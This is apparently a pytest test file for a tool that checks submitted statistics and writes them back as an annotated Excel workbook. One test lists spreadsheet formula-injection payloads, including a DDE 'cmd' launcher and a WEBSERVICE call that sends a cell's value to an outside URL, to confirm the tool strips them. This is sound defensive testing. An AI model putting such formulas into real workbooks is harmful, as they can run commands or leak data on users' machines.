"""The submission given back as a workbook: its own cells, findings on them, results and reading."""

import io
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

import dabiao
from dabiao.core.lang import Lang
from dabiao.findings.rules.files import UNREADABLE_FILE
from dabiao.model.report import Report
from dabiao.readers.spreadsheet.formulas import is_harmless
from dabiao.render.registry import report_renderer
from dabiao.render.workbook.comments import AUTHOR
from dabiao.render.workbook.names import sheet_name
from dabiao.render.workbook.styles import OF_FINDINGS
from tests.acceptance.test_submissions import (
    EXPECTATIONS,
    document,
    expectation,
    name_of,
    submission,
)
from tests.command import run
from tests.helpers import load

ROWS = "指标,实际值,单位,年份\n"


def checked(*files: Path, lang: Lang = Lang.ZH) -> tuple[Report, bytes]:
    report = dabiao.check(load("hebei-2023"), *files, explain=True)
    return report, written(report, lang)


def written(report: Report, lang: Lang) -> bytes:
    content = io.BytesIO()
    stream = io.TextIOWrapper(content, "utf-8")  # which would close it if it were not kept
    report_renderer("xlsx").report(report, stream, lang)
    return content.getvalue()


def opened(content: bytes) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def csv(folder: Path, rows: str, name: str = "actuals.csv") -> Path:
    file = folder / name
    file.write_text(ROWS + rows, encoding="utf-8")
    return file


def verdicts(report: Report) -> dict[str, tuple[str, Decimal | None]]:
    return {name_of(result): (result.verdict.value, result.actual) for result in report.results}


def again(folder: Path, content: bytes) -> Report:
    file = folder / "checked.xlsx"
    file.write_bytes(content)
    return dabiao.check(load("hebei-2023"), file)


def test_a_finding_is_a_colored_cell_with_code_message_and_way_out(tmp_path: Path) -> None:
    _, content = checked(csv(tmp_path, "粮食总产量,762,亿元,2023\n"))
    cell = opened(content)["actuals"]["C2"]
    assert cell.value == "亿元"
    assert cell.fill.fgColor.rgb[-6:] == "FFC9CE"
    assert cell.comment.text.startswith("D204 错误：“亿元”不是 粮食总产量 的计量单位（亿斤）")
    assert "\n→ " in cell.comment.text


def test_comments_are_in_the_language_asked_for(tmp_path: Path) -> None:
    _, content = checked(csv(tmp_path, "粮食总产量,762,亿元,2023\n"), lang=Lang.EN)
    book = opened(content)
    assert book.sheetnames == ["Check results", "actuals", "How it was read"]
    assert book["actuals"]["C2"].comment.text.startswith("D204 error: ")


def test_several_findings_on_a_cell_are_one_comment(tmp_path: Path) -> None:
    # 约 makes a warning (D224), and 0.052 for a target of 6 % is no such figure (D228).
    report, content = checked(csv(tmp_path, "地区生产总值,约0.052,%,2023\n"))
    codes = {finding.code for finding in report.findings if finding.location.line == 2}
    text = opened(content)["actuals"]["B2"].comment.text
    assert len(codes) > 1
    assert all(f"{code} " in text for code in codes)


def test_figures_of_text_are_numbers_and_what_looks_like_a_formula_is_text(tmp_path: Path) -> None:
    rows = "地区生产总值,5.8,%,2023\n粮食总产量,=1+1,亿斤,2023\n出口总值,007,%,2023\n"
    _, content = checked(csv(tmp_path, rows))
    sheet = opened(content)["actuals"]
    assert sheet["B2"].value == 5.8
    assert (sheet["B3"].value, sheet["B3"].data_type) == ("=1+1", "s") or sheet["B3"].quotePrefix
    assert sheet["B4"].value == "007"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet2.xml")


def test_text_that_is_markup_of_the_writer_stays_text(tmp_path: Path) -> None:
    report, content = checked(
        csv(tmp_path, "<r><t>x</t></r>,5.8,%,2023\n地区生产总值,5.8,%,2023\n")
    )
    assert opened(content)["actuals"]["A2"].value == "<r><t>x</t></r> "
    assert verdicts(again(tmp_path, content)) == verdicts(report)


def links(sheet: Worksheet) -> dict[str, str]:
    """The names of the results' and findings' cells that lead somewhere, and where."""
    return {
        str(row[1].value): str(cell.hyperlink.location)
        for row in sheet.iter_rows()
        for cell in row
        if cell.hyperlink
    }


_GDP = '{"指标": "地区生产总值", "实际值": 6.5, "单位": "%"}'
_TRADE = '{"指标": "进出口总值", "实际值": 7.4, "单位": "%"}'


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("trade.json", f"[\n  {_GDP},\n  {_TRADE}\n]\n"),
        ("trade.json", f"[{_GDP}, {_TRADE}]"),
        ("trade.jsonl", f"{_GDP}\n{_TRADE}\n"),
    ],
    ids=["a line each", "one line", "lines"],
)
def test_results_of_json_lead_to_their_figures_and_its_headers_are_in_the_first_row(
    name: str, text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    file = Path(name)
    file.write_text(text, encoding="utf-8")
    _, content = checked(file)
    book = opened(content)
    assert [book["trade"]["B2"].value, book["trade"]["B3"].value] == [6.5, 7.4]
    found = links(book["核对结果"])
    assert found["地区生产总值"] == "'trade'!B2" and found["进出口总值"] == "'trade'!B3"
    said = [[cell for cell in row if cell] for row in book["读取方式"].iter_rows(values_only=True)]
    assert ["trade", name, "JSON"] in said
    assert [f"{name} 的读取方式，表头在第 1 行"] in said


def test_findings_in_json_on_one_line_stand_on_their_own_rows(tmp_path: Path) -> None:
    file = tmp_path / "trade.json"
    file.write_text(f"[{_GDP}, {_TRADE}, {_TRADE.replace('7.4', '8.1')}]", encoding="utf-8")
    _, content = checked(file)
    book = opened(content)
    [commented] = [c.coordinate for row in book["trade"].iter_rows() for c in row if c.comment]
    assert commented == "B4"  # the second figure for one target


def test_the_name_tells_rows_on_one_line_apart_before_the_figure_does(tmp_path: Path) -> None:
    file = tmp_path / "trade.json"
    with_unit = '{"指标": "进出口总值", "实际值": "6.5%"}'
    file.write_text(f"[{_GDP}, {with_unit}]", encoding="utf-8")  # 6.5 each, written otherwise
    _, content = checked(file)
    assert links(opened(content)["核对结果"])["进出口总值"] == "'trade'!B3"


def test_many_rows_on_one_line_are_told_apart_by_what_few_of_them_say(tmp_path: Path) -> None:
    file = tmp_path / "many.json"
    others = ", ".join(f'{{"指标": "指标{n}", "实际值": 1, "单位": "%"}}' for n in range(150))
    file.write_text(f"[{others}, {_GDP}]", encoding="utf-8")
    _, content = checked(file)
    assert links(opened(content)["核对结果"])["地区生产总值"] == "'many'!B152"


def test_what_xml_cannot_hold_does_no_harm(tmp_path: Path) -> None:
    file = tmp_path / "actuals.json"
    file.write_text('[{"指标": "地区生产总值", "实际值": 5.8, "备注": "\\ud800\\ufffe\\u0007"}]')
    report, content = checked(file)
    assert opened(content).sheetnames[0] == "核对结果"
    assert verdicts(again(tmp_path, content))["gdp-growth"] == verdicts(report)["gdp-growth"]


def book_with_looks(folder: Path) -> Path:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "主要指标"
    sheet.append(["指标", "实际值", "单位", "年份"])
    sheet.append(["地区生产总值", "=3+2.8", "%", 2023])
    sheet.append(["粮食总产量", 762, "亿元", 2023])
    sheet["A1"].font = Font(name="宋体", bold=True, color="FF0000")
    sheet["A3"].fill = PatternFill("solid", fgColor="00FF00")
    sheet["C3"].comment = Comment("据统计局", "张三")
    sheet.column_dimensions["A"].width = 30
    hidden = book.create_sheet("备查")
    hidden.append(["不公开"])
    hidden.sheet_state = "hidden"
    file = folder / "actuals.xlsx"
    book.save(file)
    return file


def test_a_workbook_keeps_its_sheets_and_looks(tmp_path: Path) -> None:
    _, content = checked(book_with_looks(tmp_path))
    book = opened(content)
    assert book.sheetnames == ["核对结果", "主要指标", "备查", "读取方式"]
    sheet = book["主要指标"]
    assert (sheet["A1"].font.name, sheet["A1"].font.b) == ("宋体", True)
    assert sheet["A1"].font.color.rgb[-6:] == "FF0000"
    assert sheet["A3"].fill.fgColor.rgb[-6:] == "00FF00"
    assert sheet.column_dimensions["A"].width == pytest.approx(30, abs=0.2)
    assert book["备查"].sheet_state == "hidden"


def test_lists_to_choose_from_are_kept(tmp_path: Path) -> None:
    file = tmp_path / "actuals.xlsx"
    template = run("dabiao", "template", "hebei-2023", "-o", str(file), "--lang", "zh")
    assert template.returncode == 0
    _, content = checked(file)
    before, after = (openpyxl.load_workbook(file).active, opened(content)["上报数据"])
    assert before is not None and isinstance(before, Worksheet)
    rules = [
        {(str(rule.sqref), rule.formula1) for rule in sheet.data_validations.dataValidation}
        for sheet in (before, after)
    ]
    assert rules[0] and rules[0] == rules[1]


def test_a_comment_that_was_there_is_kept_behind_ours(tmp_path: Path) -> None:
    _, content = checked(book_with_looks(tmp_path))
    text = opened(content)["主要指标"]["C3"].comment.text
    assert text.startswith("D204 ") and text.endswith("张三: 据统计局")
    file = tmp_path / "mended.xlsx"
    file.write_bytes(content)
    _, content = checked(file)
    assert opened(content)["主要指标"]["C3"].comment.text == text


def test_a_check_of_what_came_back_takes_back_what_the_first_one_said(tmp_path: Path) -> None:
    _, content = checked(csv(tmp_path, "粮食总产量,762,亿元,2023\n"))
    book = opened(content)
    book["actuals"]["C2"].value = "亿斤"  # put right, in Excel, with comment and color left
    file = tmp_path / "mended.xlsx"
    book.save(file)
    report, content = checked(file)
    assert verdicts(report)["grain-output"] == ("met", Decimal(762))
    cell = opened(content)["actuals"]["C2"]
    assert (cell.comment, cell.fill.fill_type) == (None, None)
    assert opened(content).sheetnames == ["核对结果", "actuals", "读取方式"]


def test_a_sheet_called_like_our_own_is_read(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "核对结果"
    sheet.append(["指标", "实际值", "单位", "年份"])
    sheet.append(["粮食总产量", 762, "亿斤", 2023])
    file = tmp_path / "actuals.xlsx"
    book.save(file)
    report, content = checked(file)
    assert verdicts(report)["grain-output"] == ("met", Decimal(762))
    assert opened(content).sheetnames == ["核对结果", "核对结果 (2)", "读取方式"]
    assert verdicts(again(tmp_path, content)) == verdicts(report)


def test_figures_below_our_mark_are_not_read_and_that_is_said(tmp_path: Path) -> None:
    _, content = checked(csv(tmp_path, "粮食总产量,762,亿斤,2023\n"))
    book = opened(content)
    for row in (["指标", "实际值", "单位"], ["粮食总产量", 700, "亿斤"]):
        book["核对结果"].append(row)
    file = tmp_path / "hidden.xlsx"
    book.save(file)
    report = dabiao.check(load("hebei-2023"), file)
    assert verdicts(report)["grain-output"] == ("met", Decimal(762))
    assert [f.fields["sheet"] for f in report.findings if f.code == "D268"] == [
        "核对结果",
        "读取方式",
    ]


def test_a_row_that_has_shifted_is_still_refused_when_it_comes_back(tmp_path: Path) -> None:
    report, content = checked(csv(tmp_path, "粮食总产量,1,265.3,亿斤,2023\n"))
    assert "D214" in {finding.code for finding in report.findings}
    back = again(tmp_path, content)
    assert "D214" in {finding.code for finding in back.findings}
    assert (verdicts(back), back.exit_code) == (verdicts(report), 3)


def test_a_file_that_could_not_be_read_is_still_missed_when_it_comes_back(tmp_path: Path) -> None:
    good = csv(tmp_path, "粮食总产量,762,亿斤,2023\n")
    bad = tmp_path / "bad.csv"
    bad.write_bytes(b"")
    report, content = checked(good, bad)
    back = again(tmp_path, content)
    assert (report.exit_code, back.exit_code) == (3, 3)
    assert any("bad.csv" in str(finding) for finding in back.findings)


def test_sheets_of_several_files_have_names_of_their_own_and_say_from_where(tmp_path: Path) -> None:
    one = csv(tmp_path, "粮食总产量,762,亿斤,2023\n")
    (tmp_path / "more").mkdir()
    two = csv(tmp_path / "more", "地区生产总值,5.8,%,2023\n")
    # What a file is called says nothing of its figures, and neither must its sheet.
    three = csv(tmp_path, "出口总值,3,%,\n", "石家庄市2019年.csv")
    report, content = checked(one, two, three)
    book = opened(content)
    assert book.sheetnames == ["核对结果", "actuals", "actuals (2)", "数据", "读取方式"]
    origins = {row[0].value: row[1].value for row in book["读取方式"].iter_rows(max_col=2)}
    assert origins["actuals (2)"] == str(two)
    assert verdicts(again(tmp_path, content)) == verdicts(report)


@pytest.mark.parametrize(
    ("name", "taken", "expected"),
    [
        ("主要指标", [], "主要指标"),
        ("主要指标", ["主要指标"], "主要指标 (2)"),
        ("Data", ["data", "data (2)"], "Data (3)"),
        ("a/b:c*[d]", [], "a_b_c__d_"),
        ("x" * 40, [], "x" * 31),
        ("x" * 30 + "'yz", [], "x" * 30),
        ("History", [], "History (2)"),
        ("''", [], "数据"),
    ],
)
def test_names_of_sheets_are_what_excel_allows(name: str, taken: list[str], expected: str) -> None:
    assert sheet_name(name, taken, Lang.ZH) == expected


def test_figures_that_are_none_are_text(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (["指标", "实际值", "单位", "年份"], ["粮食总产量", 1e300, "亿斤", 2023]):
        sheet.append(row)
    book.save(tmp_path / "whole.xlsx")
    file = tmp_path / "actuals.xlsx"
    with zipfile.ZipFile(tmp_path / "whole.xlsx") as whole, zipfile.ZipFile(file, "w") as edited:
        for part in whole.namelist():
            edited.writestr(part, whole.read(part).replace(b"1e+300", b"1e+999"))
    report, content = checked(file)
    assert verdicts(again(tmp_path, content)) == verdicts(report)


def test_results_are_numbers_with_links_to_their_cells(tmp_path: Path) -> None:
    _, content = checked(csv(tmp_path, "地区生产总值,5.7,%,2023\n"))
    sheet = opened(content)["核对结果"]
    rows = {row[1].value: row for row in sheet.iter_rows()}
    row = rows["地区生产总值"]
    # 5.7 is short of about 6 by 0.3, and within 5% of it.
    assert [row[n].value for n in (0, 3, 4, 5, 6)] == ["≈ 基本达标", 6, 5.7, "%", -0.3]
    assert row[9].hyperlink is not None
    assert row[9].hyperlink.location == "'actuals'!B2"
    assert sheet.freeze_panes is not None and sheet.auto_filter.ref is not None
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)


@pytest.mark.parametrize(
    ("formula", "harmless"),
    [
        ("=SUM(B2:B5)/100", True),
        ('=IF(B2>0,"完成","")', True),
        ("=ROUND($B$2*1.05,1)", True),
        ('=WEBSERVICE("http://example.org/"&A1)', False),
        ('=HYPERLINK("http://example.org")', False),
        ("=cmd|' /C calc'!A0", False),
        ("=[1]Sheet1!A1", False),
        ("=Sheet2!A1", False),
        ("=某名称*2", False),
        ("=INDIRECT(A1)", False),
    ],
)
def test_only_formulas_that_reckon_with_their_own_sheet_are_kept(
    formula: str, harmless: bool
) -> None:
    assert is_harmless(formula) is harmless


def test_the_colors_of_findings_are_told_from_those_of_excel() -> None:
    assert not {"#FFC7CE", "#FFEB9C", "#C6EFCE"} & set(OF_FINDINGS.values())


SAMPLE = {
    "plain-table.csv", "plain-table.xls", "formula-cells.xlsx", "percent-cells.ods", "error-cells.xlsx",
    "two-row-header.xlsx", "region-merged.xlsx", "empty-file-in-folder", "gbk.csv",
}  # fmt: skip
"""Submissions that are checked even when there is little time."""


@pytest.mark.parametrize(
    "file",
    [
        pytest.param(file, marks=[] if submission(file).name in SAMPLE else [pytest.mark.slow])
        for file in EXPECTATIONS
    ],
    ids=lambda file: submission(file).name,
)
def test_what_comes_back_is_judged_as_it_was(file: Path, tmp_path: Path) -> None:
    wanted = expectation(file)
    plan, options = document(wanted["document"]), wanted.get("options", {})
    report = dabiao.check(plan, submission(file), explain=True, **options)
    content = written(report, Lang.ZH)
    (tmp_path / "checked.xlsx").write_bytes(content)
    told = {finding.code for finding in report.findings}
    # What is asked of text is not asked of the workbook: its encoding, and a sheet it never had.
    of_text = {"encoding", "sheet"} if "D266" in told else {"encoding"}
    options = {key: value for key, value in options.items() if key not in of_text}
    back = dabiao.check(plan, tmp_path / "checked.xlsx", **options)
    assert back.exit_code == report.exit_code
    # A file that cannot be read to its end does not come back: what was read of it would pass.
    if UNREADABLE_FILE.code not in told:
        assert verdicts(back) == verdicts(report)
        commented = sum(
            cell.comment is not None and cell.comment.author == AUTHOR
            for sheet in opened(content)
            for cell in sheet._cells.values()
        )
        places = {finding.location for finding in report.findings if finding.location.line}
        assert bool(commented) == bool(places)
        assert commented <= len(places)
